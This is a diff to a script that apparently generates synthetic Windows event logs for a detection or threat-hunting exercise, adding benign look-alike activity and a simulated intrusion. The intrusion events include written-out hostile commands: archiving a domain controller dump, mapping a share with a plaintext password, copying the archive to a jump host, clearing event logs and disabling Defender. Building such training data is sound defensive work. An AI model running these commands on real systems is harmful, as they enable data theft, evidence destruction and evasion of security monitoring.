@@ -164,6 +164,26 @@ for k, host in enumerate(["CD-WS014", "CD-WS022", "CD-FS01"]):
     sysmon(t + 30, host, f"{DOMAIN}\\nw-helpdesk", SYS32 + "mmc.exe", '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\compmgmt.msc" /computer:' + host, EXPLORER, "C:\\Windows\\Explorer.EXE", "High")
     sysmon(t + 90, host, f"{DOMAIN}\\nw-helpdesk", SYS32 + "net.exe", "net localgroup \"Remote Desktop Users\"", CMD, "cmd.exe", "High")
     sysmon(t + 120, host, f"{DOMAIN}\\nw-helpdesk", SYS32 + "schtasks.exe", "schtasks /run /tn \"Northwind\\DiskCleanup\"", CMD, "cmd.exe", "High")
+    sysmon(t + 150, host, f"{DOMAIN}\\nw-helpdesk", SYS32 + "sc.exe", "sc \\\\CD-WS017 query Spooler", CMD, "cmd.exe", "High")
+
+# The RMM agent updates itself (a URL in a property, not a remote package) and
+# tunes auditing of one noisy subcategory on the DC.
+for k, host in enumerate(["CD-WS011", "CD-WS023", "CD-FS01"]):
+    sysmon(11 * 3600 + 600 + k * 420, host, "NT AUTHORITY\\SYSTEM", SYS32 + "msiexec.exe",
+           'msiexec.exe /i "C:\\ProgramData\\Northwind\\agent-update.msi" /qn SERVERURL=https://rmm.northwind-it.example/ /norestart',
+           RMM, '"C:\\Program Files\\Northwind RMM\\rmmagent.exe" --service', "System")
+sec4688(11 * 3600 + 2400, "CD-DC01", "NT AUTHORITY\\SYSTEM", SYS32 + "auditpol.exe",
+        'auditpol /set /subcategory:"Filtering Platform Connection" /success:disable /failure:disable', RMM)
+
+# Logons that look a little like the intrusion but are not: the copier's
+# scan-to-folder (NTLMv2, with a session key), anonymous NTLM from the same
+# copier, and the backup job's scheduled task using its stored credentials.
+for k in range(4):
+    t = 8 * 3600 + 900 + k * 5400
+    logon(t, "CD-FS01", f"{DOMAIN}\\scanner", 3, "10.20.1.200", "CD-MFP01", "NTLM", 128)
+    logon(t + 2, "CD-FS01", "NT AUTHORITY\\ANONYMOUS LOGON", 3, "10.20.1.200", "CD-MFP01", "NTLM", 0)
+explicit(18 * 3600 + 1800, "CD-FS01", f"{DOMAIN}\\CD-FS01$", f"{DOMAIN}\\svc-backup", "localhost", SYS32 + "svchost.exe", "::1")
+explicit(18 * 3600 + 1805, "CD-FS01", f"{DOMAIN}\\CD-FS01$", f"{DOMAIN}\\svc-backup", "CD-DC01", SYS32 + "taskhostw.exe")
 
 # System noise: services, updates, Defender.
 for k in range(40):
@@ -187,6 +207,7 @@ logon(t0, "CD-FS01", A, 3, "10.50.7.33", "NW-JUMP01", "NTLM", 0)
 logon(t0 + 20, "CD-FS01", A, 10, "10.50.7.33", "NW-JUMP01")
 steps = [
     (60, "CD-FS01", SYS32 + "whoami.exe", "whoami /all", CMD),
+    (68, "CD-FS01", SYS32 + "quser.exe", "quser /server:CD-DC01", CMD),
     (75, "CD-FS01", SYS32 + "net.exe", 'net group "domain admins" /domain', CMD),
     (90, "CD-FS01", SYS32 + "nltest.exe", "nltest /dclist:contoso.local", CMD),
     (110, "CD-FS01", SYS32 + "net.exe", "net view /all /domain", CMD),
@@ -212,8 +233,9 @@ for dt, image, cmd in dc:
 
 # Staging and exfiltration through the provider's jump host.
 sysmon(t0 + 900, "CD-FS01", A, "C:\\ProgramData\\rar.exe", "C:\\ProgramData\\rar.exe a -hpN0rthw1nd! -m5 C:\\ProgramData\\upd.rar C:\\Windows\\Temp\\ifm \\\\CD-DC01\\c$\\Windows\\Temp\\sys.hiv", CMD, "cmd.exe", "High", "rar.exe")
+sysmon(t0 + 930, "CD-FS01", A, SYS32 + "net.exe", "net use \\\\NW-JUMP01\\c$ /user:CONTOSO\\nw-admin Winter2026!", CMD, "cmd.exe", "High")
+explicit(t0 + 931, "CD-FS01", A, A, "NW-JUMP01", SYS32 + "net.exe", "10.50.7.33")
 sysmon(t0 + 960, "CD-FS01", A, SYS32 + "Robocopy.exe", "robocopy C:\\ProgramData \\\\NW-JUMP01\\c$\\PerfLogs\\upd upd.rar /R:0", CMD, "cmd.exe", "High")
-sysmon(t0 + 1020, "CD-FS01", A, SYS32 + "net.exe", "net use \\\\NW-JUMP01\\c$ /user:CONTOSO\\nw-admin Winter2026!", CMD, "cmd.exe", "High")
 sec4688(t0 + 1100, "CD-DC01", A, SYS32 + "wevtutil.exe", "wevtutil cl Security", SYS32 + "PSEXESVC.exe")
 sysmon(t0 + 1130, "CD-FS01", A, SYS32 + "wevtutil.exe", '"wev"tutil.exe  cl  "Windows PowerShell"', CMD, "cmd.exe", "High")
 sysmon(t0 + 1160, "CD-FS01", A, PS, "powershell -ep bypass -c \"Set-MpPreference -DisableRealtimeMonitoring $true\"", CMD, "cmd.exe", "High")
